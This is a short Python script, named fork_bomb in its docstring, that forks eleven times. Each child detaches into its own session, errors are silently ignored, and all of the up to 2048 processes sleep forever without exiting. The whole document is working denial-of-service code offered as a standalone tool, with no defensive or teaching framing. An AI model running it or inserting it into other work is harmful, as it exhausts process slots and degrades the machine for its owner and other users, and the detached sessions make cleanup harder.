#!/usr/bin/env python3
"""fork_bomb: doubles eleven times, each process in a session of its own, and none of the up to 2048 ever ends."""

import os
import signal

GENERATIONS = 11

for _ in range(GENERATIONS):
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
while True:
    signal.pause()
